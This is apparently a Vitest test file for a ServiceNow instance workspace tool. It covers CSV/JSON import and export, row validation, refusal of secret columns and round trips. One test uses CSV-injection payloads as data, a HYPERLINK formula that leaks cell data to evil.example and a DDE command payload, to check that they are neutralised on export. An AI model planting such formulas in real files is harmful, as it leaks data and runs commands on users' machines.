import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { openWorkspace } from '../../../src/main/workspace';
import {
  exportInstancesFile,
  exportTemplatesFile,
  formatOf,
  importInstancesFile,
  importTemplatesFile,
} from '../../../src/main/workspace/transfer';
import { importInstancesCsv, importInstancesJson } from '../../../src/shared/workspace/instance-transfer';
import { importTemplatesJson } from '../../../src/shared/workspace/template-transfer';
import type { Template } from '../../../src/shared/workspace/schemas';
import { ACME, tempDir } from './helpers';

let dir: string;
let cleanup: () => Promise<void>;
beforeEach(async () => ({ dir, cleanup } = await tempDir()));
afterEach(() => cleanup());

const NAMING: Template = {
  name: 'customer-naming',
  description: 'Connections named after the customer',
  variables: [{ name: 'customer' }, { name: 'domain', default: 'global' }],
  main: { name: '{customer}_Exchange_Online_Connection', domain: '{domain}' },
  clientCred: { name: '{customer}_Exchange_Online_Connection_clientCred', credential: '{customer}_Creds_cc' },
};

describe('instance list import', () => {
  it('reads a CSV with quoted commas, tags and variables', () => {
    const csv =
      'name,url,authMethod,username,tags,var:customer\r\n' +
      '"ACME, Inc.",acme,basic,admin,prod;emea,ACME\r\n' +
      'Globex,https://globex.service-now.com,basic,svc,,Globex\r\n';
    const result = importInstancesCsv(csv);
    expect(result.errors).toEqual([]);
    expect(result.rows).toEqual([
      {
        row: 2,
        instance: {
          name: 'ACME, Inc.',
          url: 'https://acme.service-now.com',
          authMethod: 'basic',
          username: 'admin',
          tags: ['prod', 'emea'],
          variables: { customer: 'ACME' },
        },
      },
      expect.objectContaining({ row: 3 }),
    ]);
  });

  it('reports each bad row with its row number and field, and keeps the good ones', () => {
    const csv =
      'name,url,authMethod,username,clientId\n' +
      'Good,acme,basic,admin,\n' +
      ',beta,basic,admin,\n' +
      'Bad url,http://beta.example.com,basic,admin,\n' +
      'No client,gamma,oauth,svc,\n' +
      'Twice,acme,basic,admin,\n' +
      'Kerb,delta,kerberos,admin,\n';
    const result = importInstancesCsv(csv);
    expect(result.rows.map((r) => r.row)).toEqual([2]);
    expect(result.errors.map((e) => [e.row, e.field])).toEqual([
      [3, 'name'],
      [4, 'url'],
      [5, 'clientId'],
      [6, 'url'],
      [6, 'url'],
      [7, 'authMethod'],
    ]);
    expect(result.errors.find((e) => e.row === 6)!.message).toMatch(/row 2/);
  });

  it('refuses a secret-looking column outright, with a clear message', () => {
    for (const column of ['password', 'Client Secret', 'api_key', 'access_token']) {
      const result = importInstancesCsv(`name,url,username,${column}\nA,acme,admin,x\n`);
      expect(result.rows).toEqual([]);
      expect(result.refused).toContain(`"${column}" looks like a secret`);
      expect(result.refused).toMatch(/OS keychain/);
    }
    const json = importInstancesJson(
      JSON.stringify([{ name: 'A', url: 'acme', username: 'a', clientSecret: 's' }]),
    );
    expect(json.refused).toMatch(/"clientSecret" looks like a secret/);
  });

  it('names an unknown column in the header', () => {
    const result = importInstancesCsv('name,url,username,colour\nA,acme,admin,red\n');
    expect(result.errors).toEqual([expect.objectContaining({ row: 1, field: 'colour' })]);
    expect(result.rows).toEqual([]);
  });

  it('reports JSON rows by position', () => {
    const result = importInstancesJson(
      JSON.stringify({ instances: [{ name: 'A', url: 'acme', username: 'x' }, { name: 'B' }] }),
    );
    expect(result.rows).toHaveLength(1);
    expect(result.errors.map((e) => [e.row, e.field])).toEqual([
      [2, 'url'],
      [2, 'username'],
    ]);
  });
});

describe('import/export round trips through the workspace', () => {
  async function seeded() {
    const ws = await openWorkspace(join(dir, 'ws'));
    await ws.instances.save({
      ...ACME,
      name: 'ACME, "prod"',
      tags: ['prod'],
      variables: { customer: 'ACME' },
    });
    await ws.instances.save({
      name: 'Globex',
      url: 'https://globex.service-now.com',
      authMethod: 'oauth',
      username: 'svc',
      clientId: 'client-1',
      template: 'customer-naming',
      variables: { customer: 'Globex', region: 'line1\nline2' },
    });
    return ws;
  }

  for (const format of ['csv', 'json'] as const) {
    it(`${format}: export then import into a fresh workspace gives the same list`, async () => {
      const source = await seeded();
      const file = join(dir, `list.${format}`);
      expect(await exportInstancesFile(source, file)).toBe(2);
      const target = await openWorkspace(join(dir, 'other'));
      const report = await importInstancesFile(target, file);
      expect(report.errors).toEqual([]);
      expect(report.added.sort()).toEqual(['acme', 'globex']);
      const strip = (list: ReturnType<typeof source.instances.list>) =>
        list.map(({ createdAt: _c, updatedAt: _u, ...rest }) => rest);
      expect(strip(target.instances.list())).toEqual(strip(source.instances.list()));
      const again = await importInstancesFile(target, file);
      expect(again.unchanged.sort()).toEqual(['acme', 'globex']);
      expect(again.added).toEqual([]);
    });
  }

  it('templates export then import', async () => {
    const source = await openWorkspace(join(dir, 'a'));
    await source.templates.save(NAMING);
    const file = join(dir, 'templates.json');
    expect(await exportTemplatesFile(source, file)).toBe(1);
    const target = await openWorkspace(join(dir, 'b'));
    const report = await importTemplatesFile(target, file);
    expect(report).toEqual({ saved: ['customer-naming'], errors: [], refused: null });
    expect(target.templates.get('customer-naming')).toEqual(NAMING);
    expect((await openWorkspace(join(dir, 'b'))).templates.list()).toEqual([NAMING]);
  });

  it('template import reports undeclared variables and refuses secrets', async () => {
    const bad = { ...NAMING, variables: [] };
    const result = importTemplatesJson(JSON.stringify([bad]));
    expect(result.templates).toEqual([]);
    expect(result.errors[0]!.message).toMatch(/\{customer\}.*does not declare/);
    const secret = importTemplatesJson(JSON.stringify({ ...NAMING, main: { client_secret: 'x' } }));
    expect(secret.refused).toMatch(/client_secret/);
  });

  it('exported files carry no secrets and no machine-local state', async () => {
    const ws = await seeded();
    await ws.instances.setStatus('acme', 'failed', 'boom');
    await exportInstancesFile(ws, join(dir, 'x.json'));
    const text = await readFile(join(dir, 'x.json'), 'utf8');
    expect(text).not.toMatch(/status|boom|createdAt|password|secret/i);
    await writeFile(join(dir, 'y.csv'), 'name,url,username,password\nA,acme,admin,hunter2\n');
    const report = await importInstancesFile(ws, join(dir, 'y.csv'));
    expect(report.refused).toMatch(/password/);
    expect(ws.instances.list()).toHaveLength(2);
  });

  it('csv: formula-shaped names and variables are neutralised on export and restored on import', async () => {
    const ws = await openWorkspace(join(dir, 'hostile'));
    const hyperlink = '=HYPERLINK("https://evil.example/?x="&C2,"Open")';
    const dde = "=cmd|' /C calc'!A0";
    await ws.instances.save({
      ...ACME,
      name: hyperlink,
      variables: { customer: '@SUM(1+1)', region: '-1+2' },
    });
    await ws.instances.save({
      name: dde,
      url: 'https://globex.service-now.com',
      authMethod: 'basic',
      username: '+admin',
      tags: ['=1+1'],
    });
    const file = join(dir, 'x.csv');
    expect(await exportInstancesFile(ws, file)).toBe(2);
    const text = await readFile(file, 'utf8');
    // No cell of the file starts a formula: each such cell is quoted text behind a single quote.
    for (const cell of [hyperlink, dde, '@SUM(1+1)', '-1+2', '+admin', '=1+1'])
      expect(text).toContain(`"'${cell.replace(/"/g, '""')}"`);
    expect(text).not.toMatch(/(^|,)[=+\-@]/m);

    const target = await openWorkspace(join(dir, 'other'));
    const report = await importInstancesFile(target, file);
    expect(report.errors).toEqual([]);
    const strip = (list: ReturnType<typeof ws.instances.list>) =>
      list.map(({ createdAt: _c, updatedAt: _u, ...rest }) => rest);
    expect(strip(target.instances.list())).toEqual(strip(ws.instances.list()));
    expect(
      target.instances
        .list()
        .map((e) => e.name)
        .sort(),
    ).toEqual([dde, hyperlink].sort());
  });
});

describe('importing into a workspace that already has instances', () => {
  it('a row without an id updates the instance with its URL, and no other', async () => {
    const ws = await openWorkspace(join(dir, 'ws'));
    const globex = await ws.instances.save({
      ...ACME,
      name: 'Aardvark',
      url: 'https://globex.service-now.com',
    });
    await ws.instances.save(ACME);
    const file = join(dir, 'list.csv');
    await writeFile(file, 'name,url,authMethod,username\nACME renamed,acme,basic,svc\n');
    const report = await importInstancesFile(ws, file);
    expect(report).toMatchObject({ added: [], updated: ['acme'], unchanged: [], errors: [] });
    expect(ws.instances.list().map((i) => [i.id, i.name, i.username])).toEqual([
      ['globex', 'Aardvark', 'admin'],
      ['acme', 'ACME renamed', 'svc'],
    ]);
    expect(ws.instances.get('globex')).toEqual(globex);
  });

  it('reports each row it could not save, naming the file, when the list broke after opening', async () => {
    const ws = await openWorkspace(join(dir, 'ws'));
    await ws.instances.save(ACME);
    const list = join(dir, 'ws', 'instances.json');
    await writeFile(list, '{ "kind": "spokesmith.instances", "version": 2, "data": ');
    const file = join(dir, 'list.csv');
    await writeFile(
      file,
      'name,url,authMethod,username\nGlobex,globex,basic,svc\nInitech,initech,basic,svc\n',
    );
    const report = await importInstancesFile(ws, file);
    expect(report.added).toEqual([]);
    expect(report.errors.map((e) => [e.row, e.field])).toEqual([
      [2, '(row)'],
      [3, '(row)'],
    ]);
    for (const error of report.errors) expect(error.message).toContain(`left ${list} as it is`);
    expect(await readFile(list, 'utf8')).toBe('{ "kind": "spokesmith.instances", "version": 2, "data": ');
  });
});

describe('what an import or export touches', () => {
  it('reads the format from the extension in any case, unless one is given', async () => {
    expect(formatOf('list.CSV')).toBe('csv');
    expect(formatOf('list.json')).toBe('json');
    expect(formatOf('list.txt')).toBe('json');
    expect(formatOf('list.csv', 'json')).toBe('json');
    const ws = await openWorkspace(join(dir, 'ws'));
    const file = join(dir, 'export.txt');
    await writeFile(file, 'name,url,authMethod,username\nACME,acme,basic,admin\n');
    expect((await importInstancesFile(ws, file, { format: 'csv' })).added).toEqual(['acme']);
  });

  it('a dry run reports the rows and their errors, and saves nothing', async () => {
    const ws = await openWorkspace(join(dir, 'ws'));
    const file = join(dir, 'list.csv');
    await writeFile(file, 'name,url,authMethod,username\nACME,acme,basic,admin\n,beta,basic,admin\n');
    const report = await importInstancesFile(ws, file, { dryRun: true });
    expect(report.errors.map((e) => e.row)).toEqual([3]);
    expect(report.added).toEqual([]);
    expect(ws.instances.list()).toEqual([]);
    await expect(readFile(join(dir, 'ws', 'instances.json'))).rejects.toMatchObject({ code: 'ENOENT' });
  });

  it('keeps the id a row gives for a new instance', async () => {
    const ws = await openWorkspace(join(dir, 'ws'));
    const file = join(dir, 'list.json');
    await writeFile(
      file,
      JSON.stringify([{ id: 'acme-eu', name: 'ACME EU', url: 'acme', authMethod: 'basic', username: 'u' }]),
    );
    expect((await importInstancesFile(ws, file)).added).toEqual(['acme-eu']);
    expect(ws.instances.get('acme-eu')?.url).toBe('https://acme.service-now.com');
  });

  it('exports neither the demo instance nor templates that were not asked for', async () => {
    const ws = await openWorkspace(join(dir, 'ws'));
    await ws.instances.save(ACME);
    await ws.instances.save({ ...ACME, name: 'Demo', url: 'https://demo.service-now.com', isDemo: true });
    expect(await exportInstancesFile(ws, join(dir, 'list.json'))).toBe(1);
    expect(await readFile(join(dir, 'list.json'), 'utf8')).not.toContain('demo');
    await ws.templates.save(NAMING);
    await ws.templates.save({ ...NAMING, name: 'other' });
    expect(await exportTemplatesFile(ws, join(dir, 'one.json'), ['other'])).toBe(1);
    expect(importTemplatesJson(await readFile(join(dir, 'one.json'), 'utf8')).templates).toEqual([
      { ...NAMING, name: 'other' },
    ]);
    expect(await exportTemplatesFile(ws, join(dir, 'all.json'))).toBe(2);
  });
});
